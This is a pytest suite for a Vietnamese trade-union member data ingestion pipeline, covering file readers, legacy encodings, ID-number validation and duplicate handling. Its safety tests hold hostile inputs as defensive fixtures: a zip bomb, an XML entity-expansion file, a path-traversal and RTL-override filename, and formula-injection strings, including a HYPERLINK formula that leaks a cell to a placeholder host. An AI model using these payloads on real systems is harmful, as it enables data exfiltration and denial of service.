"""Ingestion engine tests: real files written into a temp data root (DOANVIEN_DATA_DIR)."""
from __future__ import annotations

import datetime as dt
import os
import io
import json
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter

from pipelines.ingest.textnorm import unicode_to_tcvn3

RECEIVED = dt.datetime(2025, 4, 5, 10, 0)
HDR = ["STT", "Mã CĐCS", "Họ và tên", "Ngày sinh", "Giới tính", "Dân tộc", "Số CMND/CCCD", "Mã số BHXH",
       "Ngày vào CĐ", "Lương đóng BHXH"]


@pytest.fixture
def root(data_root, monkeypatch):
    monkeypatch.setenv("DOANVIEN_INGEST_GX", "off")
    reg = data_root / "registry"
    reg.mkdir()
    pl.DataFrame({"unit_code": ["Q0101", "CS0000001", "CS0000002", "CS0000009"],
                  "level": ["upper_level", "cdcs", "cdcs", "cdcs"],
                  "parent_code": ["T01", "Q0101", "Q0101", "Q0202"],
                  "valid_from": [dt.date(2020, 1, 1)] * 4, "valid_to": [None] * 4},
                 schema_overrides={"valid_to": pl.Date}).write_parquet(reg / "units.parquet")
    pl.DataFrame({"branch_code": ["Q0101", "Q0202", "BHXH"], "valid_from": [dt.date(2020, 1, 1)] * 3,
                  "valid_to": [None] * 3}, schema_overrides={"valid_to": pl.Date}).write_parquet(reg / "branches.parquet")
    return data_root


def member(i, **over):
    male = i % 2 == 0
    y = 1980 + i % 20
    r = {"STT": i + 1, "Mã CĐCS": "CS0000001", "Họ và tên": f"Nguyễn Thị Hoà {i}", "Ngày sinh": f"05/03/{y}",
         "Giới tính": "Nam" if male else "Nữ", "Dân tộc": "Kinh",
         "Số CMND/CCCD": f"079{0 if male else 1}{y % 100:02d}{i:06d}", "Mã số BHXH": f"{7900000000 + i}",
         "Ngày vào CĐ": "01/06/2015", "Lương đóng BHXH": "6.500.000"}
    r.update(over)
    return r


def write_xlsx(path: Path, rows, header=HDR, title=True, footer=True, numbering=True):
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False})
    ws = wb.add_worksheet("Danh sach")
    r = 0
    if title:
        ws.write_string(0, 0, "LIÊN ĐOÀN LAO ĐỘNG QUẬN 1")
        ws.write_string(1, 3, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM")
        ws.write_string(2, 2, "DANH SÁCH ĐOÀN VIÊN THÁNG 03/2025")
        r = 4
    ws.write_row(r, 0, header)
    r += 1
    if numbering:
        ws.write_row(r, 0, [f"({k + 1})" for k in range(len(header))])
        r += 1
    for row in rows:
        for j, h in enumerate(header):
            v = row.get(h)
            if isinstance(v, (int, float)):
                ws.write_number(r, j, v)
            elif v is not None:
                ws.write_string(r, j, v)
        r += 1
    if footer:
        ws.write_string(r, 0, "Tổng cộng")
        ws.write_string(r + 2, 6, "Người lập biểu")
    wb.close()
    return path


def ingest(path, kind="roster", branch="Q0101", period="2025-03", **kw):
    from pipelines.ingest.engine import ingest_file
    return ingest_file(path, branch_code=branch, period=period, declared_kind=kind,
                       received_at=kw.pop("received_at", RECEIVED), **kw)


def quarantine(rep):
    return pl.read_parquet(rep.quarantine_path)


# ------------------------------------------------------------------------------------------------ readers
def test_xlsx_titles_stt_footer_and_row_numbers(root, tmp_path):
    rows = [member(i) for i in range(5)]
    rows[2]["Số CMND/CCCD"] = "1.23457E+11"
    rep = ingest(write_xlsx(tmp_path / "a.xlsx", rows))
    assert rep.status == "accepted", rep.message_vi
    assert (rep.rows_read, rep.rows_accepted, rep.rows_refused) == (5, 4, 1)
    q = quarantine(rep)
    # title rows 1-3, blank 4, header 5, numbering 6 → first member is Excel row 7; the third is row 9
    assert q.select("source_row", "rule", "column").rows() == [(9, "cccd_lossy", "cccd")]
    raw = pl.read_parquet(rep.raw_path)
    assert raw["source_row"].to_list() == [7, 8, 10, 11]
    assert raw["full_name"][0] == "Nguyễn Thị Hòa 0"  # tone style normalised
    assert raw["insurance_salary"][0] == 6_500_000
    assert raw["cccd"][0] == "079080000000"
    assert raw["source_sheet"][0] == "Danh sach"


def test_merged_birth_under_gender_and_x_marks(root, tmp_path):
    p = tmp_path / "m.xlsx"
    wb = xlsxwriter.Workbook(str(p))
    ws = wb.add_worksheet()
    ws.write_row(0, 0, ["STT", "Mã CĐCS", "Họ tên", "Ngày sinh", None, "Số CCCD", "Ngày vào công đoàn"])
    ws.merge_range(0, 3, 0, 4, "Ngày sinh")
    ws.write_row(1, 0, [None, None, None, "Nam", "Nữ"])
    ws.write_row(2, 0, [1, "CS0000001", "Trần Văn A", "02/03/1990", None, "079090000001", "01/01/2015"])
    ws.write_row(3, 0, [2, "CS0000001", "Lê Thị B", None, "1991", "079191000002", "01/2016"])
    wb.close()
    rep = ingest(p)
    assert rep.status == "accepted", rep.message_vi
    raw = pl.read_parquet(rep.raw_path).sort("source_row")
    assert raw["gender"].to_list() == ["M", "F"]
    assert raw["birth_date"].to_list() == [dt.date(1990, 3, 2), dt.date(1991, 1, 1)]
    assert raw["birth_date_precision"].to_list() == ["day", "year"]
    assert raw["join_date_precision"].to_list() == ["day", "month"]
    assert "date_year_only" in raw["flags"][1] and "date_month_only" in raw["flags"][1]


def _csv_text(rows, sep=","):
    def q(v):
        v = "" if v is None else str(v)
        return f'"{v}"' if sep in v or '"' in v else v
    lines = ["DANH SÁCH ĐOÀN VIÊN", "", sep.join(HDR)]
    lines += [sep.join(q(r.get(h)) for h in HDR) for r in rows]
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("enc,sep", [("utf-8", ","), ("utf-8-sig", ";"), ("cp1258", ";")])
def test_csv_encodings_and_separators(root, tmp_path, enc, sep):
    rows = [member(i) for i in range(3)]
    rows[1]["Lương đóng BHXH"] = "6,500,000" if sep == ";" else "6500000"
    text = _csv_text(rows, sep)
    if enc == "cp1258":  # Windows writes the tones cp1258 lacks as combining marks
        from pipelines.generate.legacy_encodings import encode_cp1258
        data = encode_cp1258(text)
    else:
        data = text.encode(enc)
    p = tmp_path / "r.csv"
    p.write_bytes(data)
    rep = ingest(p)
    assert rep.status == "accepted", rep.message_vi
    assert rep.rows_accepted == 3
    raw = pl.read_parquet(rep.raw_path)
    assert raw["full_name"].to_list()[0] == "Nguyễn Thị Hòa 0"
    assert raw["insurance_salary"].to_list() == [6_500_000] * 3
    assert raw["source_row"].to_list() == [4, 5, 6]  # CSV line numbers


def test_parquet_reader(root, tmp_path):
    rows = [member(i) for i in range(3)]
    p = tmp_path / "r.parquet"
    pl.DataFrame([{k: (str(v) if v is not None else None) for k, v in r.items()} for r in rows]).write_parquet(p)
    rep = ingest(p)
    assert rep.status == "accepted" and rep.rows_accepted == 3, rep.message_vi


def test_xls_legacy_workbook(root, tmp_path):
    """A real Excel 97-2003 .xls (written with xlwt, the format many offices still save in): title rows, text
    CCCDs that keep their leading zero, birth dates typed as Excel dates, salaries typed as numbers."""
    import xlwt  # pinned in requirements.lock (tests only)
    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Danh sach")
    date_style = xlwt.easyxf(num_format_str="dd/mm/yyyy")
    ws.write(0, 0, "LIÊN ĐOÀN LAO ĐỘNG QUẬN 1")
    ws.write(1, 2, "DANH SÁCH ĐOÀN VIÊN THÁNG 03/2025")
    for c, h in enumerate(HDR):
        ws.write(3, c, h)
    rows = [member(i) for i in range(4)]
    for r, row in enumerate(rows, start=4):
        for c, h in enumerate(HDR):
            v = row[h]
            if h == "Ngày sinh":
                d, m, y = (int(x) for x in v.split("/"))
                ws.write(r, c, dt.date(y, m, d), date_style)  # an Excel date (a number), not text
            elif h == "Lương đóng BHXH":
                ws.write(r, c, int(v.replace(".", "")))  # a number
            else:
                ws.write(r, c, v)  # text, the CCCD included
    p = tmp_path / "DS doan vien T3.2025.xls"
    wb.save(str(p))
    rep = ingest(p)
    assert rep.status == "accepted" and rep.format == "xls" and rep.rows_accepted == 4, rep.message_vi
    raw = pl.read_parquet(rep.raw_path).sort("source_row")
    assert raw["cccd"].to_list() == [r["Số CMND/CCCD"] for r in rows]  # "0790…": the leading zero kept
    assert raw["birth_date"].to_list() == [dt.date(1980 + i, 3, 5) for i in range(4)]
    assert raw["insurance_salary"].to_list() == [6_500_000] * 4


# ------------------------------------------------------------------------------------------------ normalising
def test_tcvn3_converted(root, tmp_path):
    rows = [member(i, **{"Họ và tên": unicode_to_tcvn3("Nguyễn Thị Hương"), "Dân tộc": unicode_to_tcvn3("Mường")})
            for i in range(3)]
    header = [unicode_to_tcvn3(h) for h in HDR]
    rows = [{unicode_to_tcvn3(k): v for k, v in r.items()} for r in rows]
    rep = ingest(write_xlsx(tmp_path / "t.xlsx", rows, header=header))
    assert rep.status == "accepted", rep.message_vi
    raw = pl.read_parquet(rep.raw_path)
    assert raw["full_name"].to_list() == ["Nguyễn Thị Hương"] * 3
    assert raw["ethnicity_code"].to_list() == ["06"] * 3
    assert "encoding_converted" in raw["flags"][0]
    assert "TCVN3" in rep.encoding


def test_tcvn3_csv_whose_header_cells_look_like_latin1(root, tmp_path):
    """A TCVN3 services CSV: "Số CCCD" and "Số tiền" are written "Sè CCCD" and "Sè tiÒn" in TCVN3, bytes that
    are ordinary Latin-1 Vietnamese letters (and "Sè tiÒn" even decodes to valid Windows-1258). The header row
    as a whole is TCVN3, so every cell is converted and the file is recognised as services (it was refused as
    wrong_kind on small, Q3105 2025-02)."""
    text = ("Mã CĐ cơ sở,Họ và tên,Số CCCD,Chương trình,Ngày hỗ trợ,Số tiền\n"
            "CS0000001,Hoàng Thùy Uyên,079090000001,Tết Sum vầy,15/03/2025,1100000\n"
            "CS0000001,Lê Thị Dung,079190000002,tet_sum_vay,02/03/2025,510000\n")
    p = tmp_path / "s.csv"
    p.write_bytes(unicode_to_tcvn3(text).encode("latin-1"))
    rep = ingest(p, kind="services")
    assert (rep.status, rep.detected_kind) == ("accepted", "services"), rep.message_vi
    raw = pl.read_parquet(rep.raw_path)
    assert raw["full_name"].to_list() == ["Hoàng Thùy Uyên", "Lê Thị Dung"]
    assert raw["amount"].to_list() == [1_100_000, 510_000]
    assert "encoding_converted" in raw["flags"][0]


def test_tcvn3_csv_chosen_over_windows_1258_on_a_header_tie(root, tmp_path):
    """A TCVN3 activities CSV whose header cells each also convert cell by cell after a Windows-1258 decoding
    (a tie when both sides were TCVN3-fixed): Windows-1258 headers are read as they are, so TCVN3 wins and the
    data cells ("Văn hóa, thể thao") are converted too (small: 22 files read as cp1258, ~1,500 rows refused)."""
    text = ("Mã CĐCS,Loại hoạt động,Tên HĐ,Ngày hoạt động,Họ tên đoàn viên,Số CCCD\n"
            "CS0000001,Tập huấn,Tập huấn an toàn,14/03/2025,Lê Thị Dung,079190000002\n"
            "CS0000001,\"Văn hóa, thể thao\",Hội thao,15/03/2025,Hoàng Thùy Uyên,079090000001\n")
    p = tmp_path / "a.csv"
    p.write_bytes(unicode_to_tcvn3(text).encode("latin-1"))
    from pipelines.ingest.readers import decode_single_byte
    assert decode_single_byte(p.read_bytes())[1] == "tcvn3"
    rep = ingest(p, kind="activities")
    assert rep.status == "accepted", rep.message_vi
    raw = pl.read_parquet(rep.raw_path)
    assert raw["activity_type"].to_list() == ["tap_huan", "van_hoa_the_thao"]
    assert raw["full_name"].to_list() == ["Lê Thị Dung", "Hoàng Thùy Uyên"]


def test_vni_refused_naming_encoding(root, tmp_path):
    rows = [member(i, **{"Họ và tên": "Nguyeãn Thò Höông"}) for i in range(4)]
    rep = ingest(write_xlsx(tmp_path / "v.xlsx", rows))
    assert (rep.status, rep.reason_code) == ("refused", "legacy_encoding")
    assert "VNI" in rep.message_vi


def test_cccd_restore_vs_refuse_and_dates(root, tmp_path):
    rows = [
        member(0, **{"Số CMND/CCCD": 1080000000}),                # number: leading zero lost → restored
        member(1, **{"Số CMND/CCCD": "7.9181000001E+10"}),       # scientific but lossless → restored
        member(2, **{"Số CMND/CCCD": "7.9182E+10"}),              # lossy
        member(3, **{"Số CMND/CCCD": "123456789"}),               # CMND flagged
        member(4, **{"Số CMND/CCCD": "079184000004", "Ngày sinh": "05/03/1990"}),  # birth year mismatch
        member(5, **{"Ngày sinh": (dt.date(1985, 8, 12) - dt.date(1899, 12, 30)).days}),  # Excel serial
        member(6, **{"Ngày vào CĐ": "31/02/2015"}),
        member(7, **{"Ngày vào CĐ": "01/06/2030"}),
        member(8, **{"Ngày vào CĐ": "201506"}),
        member(9, **{"Giới tính": "Không rõ"}),
        member(10, **{"Dân tộc": "H'Mông"}),
        member(11, **{"Dân tộc": "Klingon"}),
        member(12, **{"Mã CĐCS": "CS0000009"}),                     # another branch's unit
        member(13, **{"Mã số BHXH": "12345"}),
        member(13, **{"STT": 99}),                                  # same person twice
        member(15, **{"Lương đóng BHXH": "-5"}),
        member(16, **{"Họ và tên": None}),
    ]
    rows[0]["Số CMND/CCCD"] = 1080000000
    rep = ingest(write_xlsx(tmp_path / "c.xlsx", rows))
    assert rep.rows_read == rep.rows_accepted + rep.rows_refused == len(rows)
    q = {r["source_row"] - 7: r["rule"] for r in quarantine(rep).iter_rows(named=True)}
    assert q == {2: "cccd_lossy", 4: "cccd_birth_mismatch", 6: "date_invalid", 7: "future_date",
                 9: "gender_invalid", 11: "ethnicity_unknown", 12: "unit_unknown", 13: "bhxh_layout",
                 14: "duplicate_in_file", 15: "amount_invalid", 16: "required_missing"}
    raw = pl.read_parquet(rep.raw_path).with_columns((pl.col("source_row") - 7).alias("i"))
    by = {r["i"]: r for r in raw.iter_rows(named=True)}
    assert by[0]["cccd"] == "001080000000" and "cccd_restored" in by[0]["flags"]
    assert by[1]["cccd"] == "079181000001" and "cccd_restored" in by[1]["flags"]
    assert by[3]["cccd"] is None and by[3]["cmnd"] == "123456789" and "cmnd_legacy" in by[3]["flags"]
    assert by[5]["birth_date"] == dt.date(1985, 8, 12)
    assert by[8]["join_date"] == dt.date(2015, 6, 1) and by[8]["join_date_precision"] == "month"
    assert by[10]["ethnicity_code"] == "08"
    assert rep.counts_by_rule == {v: list(q.values()).count(v) for v in set(q.values())}


def test_every_rule_that_names_the_cccd_has_the_cmnd_column_messages():
    """A CCCD rule reported on a CMND column (_quarantine_rows) must not tell the branch about a CCCD cell: every
    suite rule on the `cccd` column whose message speaks of a CCCD has both CMND-column variants, in Vietnamese
    and English, themselves NFC (a rule added later without them would fall back to the CCCD wording)."""
    import unicodedata

    from pipelines.config import KINDS
    from pipelines.ingest.rules import load_suite
    checked = 0
    for kind in KINDS:
        for e in load_suite(kind)["expectations"]:
            m = e["meta"]
            if m.get("column") != "cccd" or "CCCD" not in m["message_vi"]:
                continue
            for key in ("message_vi_cmnd_column", "message_en_cmnd_column", "message_vi_cmnd_only",
                        "message_en_cmnd_only"):
                text = m.get(key)
                assert text and unicodedata.is_normalized("NFC", text), (kind, m["rule"], key)
            assert "CMND" in m["message_vi_cmnd_only"] and "trống" not in m["message_vi_cmnd_only"], (kind, m["rule"])
            checked += 1
    assert checked >= 7  # cccd_lossy and cccd_layout in three suites, cccd_birth_mismatch in the roster's


def test_legacy_cmnd_column_beside_the_cccd_column(root, tmp_path):
    """Rosters of the switch years list the old CMND in a column of its own, before or after the CCCD. Both
    numbers are kept: a row with both is a CCCD person whose old CMND is known (the warehouse links the CMND's
    other rows to them), a row with the CMND only is a legacy member, a CCCD written in the CMND column counts.
    Before, a "Số CMND" column first was taken for the identity column and the CCCD column was dropped."""
    hdr = ["STT", "Mã CĐCS", "Họ và tên", "Ngày sinh", "Giới tính", "Dân tộc", "Số CMND cũ", "Số CCCD", "Mã số BHXH",
           "Ngày vào CĐ", "Lương đóng BHXH"]
    ms = [member(i) for i in range(7)]
    for m in ms:
        m["Số CCCD"] = m.pop("Số CMND/CCCD")
    ms[0]["Số CMND cũ"] = "023456789"                                  # both
    ms[1]["Số CMND cũ"] = "12AB"                                       # not a CMND: dropped, the row says so
    ms[2]["Số CMND cũ"], ms[2]["Số CCCD"] = "023456781", None          # the CMND only
    ms[3]["Số CMND cũ"], ms[3]["Số CCCD"] = ms[3]["Số CCCD"], None     # a CCCD in the CMND column
    ms[4]["Số CCCD"] = None                                            # no number at all
    ms[5]["Số CMND cũ"], ms[5]["Số CCCD"] = "12AB", None               # nothing valid: refused, the value kept
    ms[6]["Số CMND cũ"], ms[6]["Số CCCD"] = "023456780", "99AB"        # a bad CCCD beside a CMND: the CCCD's fault
    for header in (hdr, [*hdr[:6], hdr[7], hdr[6], *hdr[8:]]):        # the CMND column before, then after
        rep = ingest(write_xlsx(tmp_path / f"cmnd{header.index('Số CCCD')}.xlsx", ms, header=header))
        assert (rep.rows_read, rep.rows_accepted) == (7, 4)
        q = {r["source_row"] - 7: (r["rule"], r["column"], r["value"], r["message_vi"])
             for r in quarantine(rep).iter_rows(named=True)}
        # the number that broke the CCCD rule is the CMND column's (the CCCD cell is empty): the message says so
        assert q == {4: ("required_missing", "cccd", None, "Thiếu thông tin bắt buộc"),
                     5: ("cccd_layout", "cmnd", "12AB",
                         "Số ở cột CMND (ô Số CCCD để trống) không phải số CMND cũ 9 chữ số, cũng không phải số CCCD "
                         "đúng cấu trúc (12 chữ số, 3 số đầu là mã tỉnh nơi đăng ký khai sinh)"),
                     6: ("cccd_layout", "cccd", "99AB",
                         "Số CCCD không đúng cấu trúc (12 chữ số, 3 số đầu là mã tỉnh nơi đăng ký khai sinh)")}
        raw = pl.read_parquet(rep.raw_path).with_columns((pl.col("source_row") - 7).alias("i")).sort("i")
        assert raw.select("i", "cccd", "cmnd").rows() == [
            (0, ms[0]["Số CCCD"], "023456789"), (1, ms[1]["Số CCCD"], None), (2, None, "023456781"),
            (3, ms[3]["Số CMND cũ"], None)]
        assert [("cmnd_legacy" in f) for f in raw["flags"]] == [False, False, True, False]
        assert [("cmnd_ignored" in f) for f in raw["flags"]] == [False, True, False, False]
        assert rep.flags.get("cmnd_ignored") == 1
    # a lone "Số CMND" column is the file's identity column, whatever it holds; what it refuses is reported on that
    # column, with messages that speak of it (the file has no CCCD column to be "left empty")
    rows = [member(0, **{"Số CMND": "023456789"}), member(1), member(2, **{"Số CMND": "12AB"}), member(3)]
    for r in rows[1:]:
        r.setdefault("Số CMND", r.pop("Số CMND/CCCD"))
    rows[3]["Số CMND"] = None
    rep = ingest(write_xlsx(tmp_path / "lone.xlsx", rows, header=[h if h != "Số CMND/CCCD" else "Số CMND" for h in HDR]))
    raw = pl.read_parquet(rep.raw_path).sort("source_row")
    assert rep.rows_accepted == 2 and raw.select("cccd", "cmnd").rows() == [(None, "023456789"), (rows[1]["Số CMND"], None)]
    q = {r["source_row"] - 7: (r["rule"], r["column"], r["value"], r["message_vi"])
         for r in quarantine(rep).iter_rows(named=True)}
    assert q == {2: ("cccd_layout", "cmnd", "12AB",
                     "Số ở cột CMND không phải số CMND cũ 9 chữ số, cũng không phải số CCCD đúng cấu trúc (12 chữ số, "
                     "3 số đầu là mã tỉnh nơi đăng ký khai sinh)"),
                 3: ("required_missing", "cmnd", None, "Thiếu thông tin bắt buộc")}


# ------------------------------------------------------------------------------------------------ file level
def test_file_level_refusals(root, tmp_path):
    def ok(n):
        return write_xlsx(tmp_path / f"ok{n}.xlsx", [member(i) for i in range(n)])
    empty = tmp_path / "e.csv"
    empty.write_bytes(b"")
    header_only = write_xlsx(tmp_path / "h.xlsx", [], footer=False)
    garbage = tmp_path / "g.xlsx"
    garbage.write_bytes(b"PK\x03\x04 not really a zip")
    html = tmp_path / "h.xls"
    html.write_bytes(b"<html><body><table><tr><td>x</td></tr></table></body></html>")
    dues = tmp_path / "d.csv"
    dues.write_text("Mã CĐCS,Tên CĐCS,Số đoàn viên,Quỹ lương đóng BHXH,Đoàn phí phải thu,Đoàn phí đã thu\n"
                    "CS0000001,A,10,65000000,650000,650000\n", encoding="utf-8")
    cases = [
        (empty, {}, "empty"), (header_only, {}, "empty"), (garbage, {}, "unreadable"), (html, {}, "unsafe_file"),
        (dues, {}, "wrong_kind"), (ok(3), {"period": "2025-13"}, "wrong_period"),
        (ok(4), {"period": "2025-02"}, "wrong_period"),  # the title says 03/2025
        (ok(5), {"branch": "Q9999"}, "unknown_branch"),
    ]
    for path, kw, reason in cases:
        rep = ingest(path, **kw)
        assert (rep.status, rep.reason_code) == ("refused", reason), (path.name, kw, rep.message_vi)
        assert rep.message_vi and rep.rows_accepted == 0
        assert not list((root / "raw").glob(f"*/*/{rep.file_id}.parquet"))  # no rows file in any month
        # a refused file version is recorded in the ledger (same bytes again would be a duplicate)
        assert pl.read_parquet(root / "raw" / "files" / f"{rep.file_id}.parquet")["status"][0] == "refused"


def test_too_large_and_zip_bomb(root, tmp_path, monkeypatch):
    import pipelines.ingest.readers as readers
    # a 60 MB member that compresses to ~60 KB: refused before parsing
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * 60_000_000)
    rep = ingest(bomb)
    assert (rep.status, rep.reason_code) == ("refused", "unsafe_file")
    laughs = tmp_path / "laughs.xlsx"
    with zipfile.ZipFile(laughs, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa">]><Types>&a;</Types>')
        z.writestr("xl/workbook.xml", "<workbook/>")
    assert ingest(laughs).reason_code == "unsafe_file"
    monkeypatch.setattr(readers, "MAX_FILE_BYTES", 1000)
    import pipelines.ingest.engine as engine
    monkeypatch.setattr(engine, "MAX_FILE_BYTES", 1000)
    big = write_xlsx(tmp_path / "big.xlsx", [member(i) for i in range(50)])
    assert ingest(big).reason_code == "too_large"


# ------------------------------------------------------------------------------------------------ idempotency
def test_duplicate_and_supersede(root, tmp_path):
    p1 = write_xlsx(tmp_path / "v1.xlsx", [member(i) for i in range(4)])
    r1 = ingest(p1)
    snapshot = sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
    again = tmp_path / "renamed copy.xlsx"
    again.write_bytes(p1.read_bytes())
    r2 = ingest(again, received_at=RECEIVED + dt.timedelta(hours=1))
    assert r2.status == "duplicate" and r2.reason_code == "duplicate_content"
    assert "Tệp này đã được nhận trước đây" in r2.message_vi
    # the arrival has a ledger row of its own (status duplicate, no rows); nothing else changes
    dup_ledger = f"raw/files/{r2.file_id}.parquet"
    assert r2.file_id != r1.file_id
    assert sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) == sorted(snapshot + [dup_ledger])
    dup = pl.read_parquet(root / dup_ledger).row(0, named=True)
    assert (dup["status"], dup["reason_code"], dup["sha256"], dup["rows_read"], dup["rows_accepted"]) == (
        "duplicate", "duplicate_content", r1.sha256, 0, 0)
    # re-ingesting the same arrivals (the original, the recorded duplicate) writes nothing
    snapshot2 = sorted((str(p.relative_to(root)), p.stat().st_mtime_ns) for p in root.rglob("*") if p.is_file())
    assert ingest(again, received_at=RECEIVED + dt.timedelta(hours=1)).file_id == r2.file_id
    assert ingest(p1).file_id == r1.file_id
    assert sorted((str(p.relative_to(root)), p.stat().st_mtime_ns) for p in root.rglob("*") if p.is_file()) == snapshot2
    p3 = write_xlsx(tmp_path / "v2.xlsx", [member(i) for i in range(6)])
    r3 = ingest(p3, received_at=RECEIVED + dt.timedelta(days=1))
    assert r3.status == "accepted" and r3.file_id != r1.file_id
    led = pl.read_parquet(root / "raw" / "files" / "*.parquet").sort("received_at")
    assert led["file_id"].to_list() == [r1.file_id, r2.file_id, r3.file_id]
    latest = led.filter(pl.col("status") == "accepted").sort("received_at").tail(1)["file_id"][0]
    rows = pl.read_parquet(sorted((root / "raw" / "roster").glob("file_month=*/*.parquet")))
    assert rows.filter(pl.col("file_id") == latest).height == 6  # the warehouse's pick: exactly the new rows
    assert (root / "archive" / r1.sha256[:2] / f"{r1.sha256}.xlsx").read_bytes() == p1.read_bytes()


def test_pending_inbox_and_cli(root, tmp_path):
    from click.testing import CliRunner

    from pipelines.ingest.cli import ingest as cli
    from pipelines.ingest.engine import pending_inbox_files
    d = root / "inbox" / "Q0101" / "2025-03" / "roster"
    d.mkdir(parents=True)
    good = write_xlsx(d / "evil\u202egpj ..%2f..%2f.xlsx", [member(i) for i in range(3)])
    bad = d / "bad.csv"
    bad.write_text("nothing useful\n1,2\n", encoding="utf-8")
    import os
    os.utime(good, (1_743_840_000, 1_743_840_000))  # April 2025
    os.utime(bad, (1_743_840_100, 1_743_840_100))
    pend = pending_inbox_files()
    assert [p.path.name for p in pend] == [good.name, "bad.csv"]
    assert (pend[0].branch_code, pend[0].period, pend[0].kind) == ("Q0101", "2025-03", "roster")
    res = CliRunner().invoke(cli, ["--inbox", "--json"])
    assert res.exit_code == 1  # one file refused
    reps = json.loads(res.output)
    assert [r["status"] for r in reps] == ["accepted", "refused"]
    assert "/" not in reps[0]["original_name"] and "\u202e" not in reps[0]["original_name"]
    assert pending_inbox_files() == []
    res = CliRunner().invoke(cli, [str(good)])
    assert res.exit_code == 0 and "TRÙNG" in res.output


# ------------------------------------------------------------------------------------------------ safety
def test_formula_text_neutralised_in_xlsx_report(root, tmp_path):
    import openpyxl
    evil = ["=HYPERLINK(\"http://x/?\"&A1,\"a\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    rows = [member(i, **{"Họ và tên": e}) for i, e in enumerate(evil)]
    rep = ingest(write_xlsx(tmp_path / "f.xlsx", rows))
    raw = pl.read_parquet(rep.raw_path)
    assert raw["full_name"][1] == "+1+1"  # stays data in raw
    wb = openpyxl.load_workbook(rep.xlsx_report)
    ws = wb.active
    names = [ws.cell(row=r, column=4) for r in range(2, 2 + len(evil))]
    assert all(c.data_type == "s" and str(c.value).startswith("'") for c in names)
    assert ws.cell(row=1, column=ws.max_column).value == "Lỗi"


def test_gx_mode_is_read_when_ingesting_not_at_import(monkeypatch):
    """DOANVIEN_INGEST_GX set after the rules module was imported (as the app's upload page imports it) is heard:
    GX off runs no GX, whatever the mode was at import."""
    import polars as pl

    import pipelines.ingest.rules as rules
    monkeypatch.setattr(rules, "GX_MODE", "sample")  # as if imported with GX on
    monkeypatch.setenv("DOANVIEN_INGEST_GX", "off")
    res = rules.run_gx(pl.DataFrame({"cccd": ["001234567890"]}), "roster", {})
    assert res["ran"] is False and res["reason"] == "disabled" and res["mode"] == "off"
    from pipelines.ingest import engine
    assert engine.rules_gx_mode() == "off"


def test_gx_results_carry_no_personal_values(root, tmp_path, monkeypatch):
    monkeypatch.setenv("DOANVIEN_INGEST_GX", "sample")
    rows = [member(i) for i in range(6)] + [member(1, **{"STT": 9})]
    rows[2]["Số CMND/CCCD"] = "07918200000X"
    rep = ingest(write_xlsx(tmp_path / "g.xlsx", rows))
    assert rep.gx["ran"] is True
    by_rule = {e["rule"]: e for e in rep.gx["expectations"] if not e["success"]}
    assert by_rule["cccd_layout"]["unexpected_count"] == 1
    assert by_rule["duplicate_in_file"]["unexpected_count"] == 1
    text = Path(rep.json_report).read_text(encoding="utf-8")
    assert not re.search(r"\d{9,12}", text.replace(rep.sha256, "").replace(rep.file_id, ""))
    assert "Nguyễn" not in text
    # the report is written by orjson (to_json_bytes): the same text the standard library gives, byte for byte
    # (dates and GX's values as str(), Vietnamese unescaped, two-space indents)
    stdlib = json.dumps(rep.to_dict(), ensure_ascii=False, indent=2, default=str)
    assert rep.to_json() == stdlib and text == stdlib
    rep.flags["checked_at"] = RECEIVED  # a datetime: str() gives "2025-04-05 10:00:00", orjson's own "…T10:00:00"
    assert rep.to_json() == json.dumps(rep.to_dict(), ensure_ascii=False, indent=2, default=str)


def test_unknown_programme_has_its_own_message(root, tmp_path):
    p = tmp_path / "s.csv"
    p.write_text("Mã CĐCS,Họ và tên,Số CCCD,Chương trình,Ngày hỗ trợ,Số tiền\n"
                 "CS0000001,Lê Văn A,079090000001,Mái ấm công đoàn,05/03/2025,1000000\n"
                 "CS0000001,Lê Văn B,079090000002,Trao quà Trung thu,06/03/2025,200000\n"
                 "CS0000001,Lê Văn C,079090000003,,07/03/2025,300000\n", encoding="utf-8")
    rep = ingest(p, kind="services")
    assert rep.status == "accepted", rep.message_vi
    q = quarantine(rep).sort("source_row")
    assert q.select("source_row", "rule", "column", "value").rows() == [
        (3, "required_missing", "program", "Trao quà Trung thu"), (4, "required_missing", "program", None)]
    assert "không có trong danh mục" in q["message_vi"][0] and q["message_vi"][1] == "Thiếu thông tin bắt buộc"


def test_csv_line_numbers_with_quoted_line_breaks(root, tmp_path):
    rows = [member(i) for i in range(4)]
    rows[1]["Họ và tên"] = "Trần Thị\nBình"          # a line break inside a quoted cell
    text = _csv_text(rows).replace("Trần Thị\nBình", '"Trần Thị\nBình"').replace("\n", "\r\n")
    p = tmp_path / "ml.csv"
    p.write_bytes(text.encode("utf-8"))
    rep = ingest(p)
    assert rep.status == "accepted", rep.message_vi
    raw = pl.read_parquet(rep.raw_path).sort("source_row")
    # title, blank, header = lines 1-3; the second member spans lines 5-6
    assert raw["source_row"].to_list() == [4, 5, 7, 8]
    assert raw["full_name"][1] == "Trần Thị Bình"


def test_gx_pooled_once_per_kind_in_a_batch(root, tmp_path, monkeypatch):
    monkeypatch.setenv("DOANVIEN_INGEST_GX", "sample")
    import os as _os

    from pipelines.ingest.engine import ingest_inbox
    d = root / "inbox" / "Q0101" / "2025-03" / "roster"
    d.mkdir(parents=True)
    for k, when in ((0, 1_743_840_000), (1, 1_743_926_400)):
        rows = [member(i + 10 * k) for i in range(5)]
        rows[1]["Ngày vào CĐ"] = "06/04/2025"  # after the first file's arrival (5/4), before the second's
        p = write_xlsx(d / f"v{k}.xlsx", rows)
        _os.utime(p, (when, when))
    reps = ingest_inbox()
    assert [r.status for r in reps] == ["accepted", "accepted"]
